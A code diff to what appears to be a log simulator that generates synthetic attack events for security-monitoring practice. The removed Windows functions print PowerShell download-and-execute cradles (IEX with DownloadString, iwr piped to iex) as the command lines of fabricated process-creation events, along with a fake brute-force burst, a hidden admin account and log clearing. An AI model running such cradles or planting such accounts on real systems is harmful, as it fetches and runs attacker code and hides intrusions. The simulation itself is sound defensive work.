@@ -4,8 +4,9 @@
  * new admin then log clearing, on Linux and Windows). Each attack comes from its own address (documentation-free
  * public space, never one the background uses at the same time) against one host.
  */
-import { iptablesDrop, nginx, PRI, syslog, winEvent } from './lines.js';
-import { type Agency, type Host, Rng, type SimEvent } from './model.js';
+import { winBurst, winCradle, winNewAdmin } from './attacks-windows.js';
+import { iptablesDrop, nginx, PRI, syslog } from './lines.js';
+import { type Agency, type AttackLines, type Host, Rng, type SimEvent } from './model.js';
 
 /** The kinds of attack, in the order the scheduler cycles through them. */
 export const ATTACK_KINDS = [
@@ -70,13 +71,12 @@ export interface Attack {
   events: number;
 }
 
-type Out = { t: number; line: string; transport: 'tcp' | 'http' }[];
+type Out = AttackLines;
 
 const SQLMAP_UA = 'sqlmap/1.8.11#stable (https://sqlmap.org)';
 const NIKTO_UA = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)';
 const BROWSER =
   'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
-const SID = 'S-1-5-21-3623811015-3361044348-30300820';
 
 function sshd(out: Out, t: number, h: string, pid: number, msg: string): void {
   out.push({ t, line: syslog(t, PRI.authprivInfo, h, 'sshd', pid, msg), transport: 'tcp' });
@@ -331,107 +331,6 @@ function portScan(r: Rng, fw: Host, target: Host, ip: string, t: number, out: Ou
     });
     t += r.int(20, 120);
   }
-}
-
-function winHost(a: Agency, h: Host): string {
-  return `${h.name}.${a.slug}.gov.vn`;
-}
-
-function winBurst(r: Rng, a: Agency, h: Host, ip: string, t: number, out: Out): void {
-  const users = ['administrator', 'admin', 'quantri', 'backup', 'scanner', 'user1', 'test'];
-  let rec = r.int(100_000, 900_000);
-  const n = r.int(30, 80);
-  for (let k = 0; k < n; k++) {
-    out.push({
-      t,
-      transport: 'http',
-      line: winEvent(
-        t,
-        winHost(a, h),
-        4625,
-        rec++,
-        {
-          SubjectUserSid: 'S-1-0-0',
-          SubjectUserName: '-',
-          TargetUserSid: 'S-1-0-0',
-          TargetUserName: users[k % users.length]!,
-          TargetDomainName: a.slug.toUpperCase(),
-          Status: '0xc000006d',
-          SubStatus: '0xc000006a',
-          FailureReason: '%%2313',
-          LogonType: '3',
-          LogonProcessName: 'NtLmSsp ',
-          AuthenticationPackageName: 'NTLM',
-          WorkstationName: 'KALI',
-          IpAddress: ip,
-          IpPort: String(r.int(40000, 60000)),
-        },
-        true,
-      ),
-    });
-    t += r.int(1000, 5000);
-  }
-}
-
-function winCradle(r: Rng, a: Agency, h: Host, ip: string, t: number, out: Out): void {
-  const cmd = r.chance(0.5)
-    ? `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${ip}/a.ps1')"`
-    : `powershell -w hidden -c "iwr http://${ip}/s.ps1 -UseBasicParsing | iex"`;
-  out.push({
-    t,
-    transport: 'http',
-    line: winEvent(t, winHost(a, h), 4688, r.int(100_000, 900_000), {
-      SubjectUserSid: `${SID}-1100`,
-      SubjectUserName: 'nguyenvana',
-      SubjectDomainName: a.slug.toUpperCase(),
-      SubjectLogonId: '0x3e7a1',
-      NewProcessId: '0x1a2c',
-      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-      TokenElevationType: '%%1938',
-      ProcessId: '0x10f0',
-      CommandLine: cmd,
-      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
-    }),
-  });
-}
-
-function winNewAdmin(r: Rng, a: Agency, h: Host, t: number, out: Out, logonId: string): void {
-  const host = winHost(a, h);
-  const sid = `${SID}-${r.int(1200, 1900)}`;
-  const subj = {
-    SubjectUserSid: `${SID}-500`,
-    SubjectUserName: 'Administrator',
-    SubjectDomainName: h.name,
-    SubjectLogonId: logonId,
-  };
-  let rec = r.int(100_000, 900_000);
-  out.push({
-    t,
-    transport: 'http',
-    line: winEvent(t, host, 4720, rec++, {
-      TargetUserName: 'support$x',
-      TargetDomainName: h.name,
-      TargetSid: sid,
-      ...subj,
-      SamAccountName: 'support$x',
-      UserAccountControl: '%%2080 %%2082 %%2084',
-    }),
-  });
-  t += r.int(30_000, 600_000);
-  out.push({
-    t,
-    transport: 'http',
-    line: winEvent(t, host, 4732, rec++, {
-      MemberName: '-',
-      MemberSid: sid,
-      TargetUserName: 'Administrators',
-      TargetDomainName: 'Builtin',
-      TargetSid: 'S-1-5-32-544',
-      ...subj,
-    }),
-  });
-  t += r.int(60_000, 900_000);
-  out.push({ t, transport: 'http', line: winEvent(t, host, 1102, rec++, subj) });
 }
 
 /**
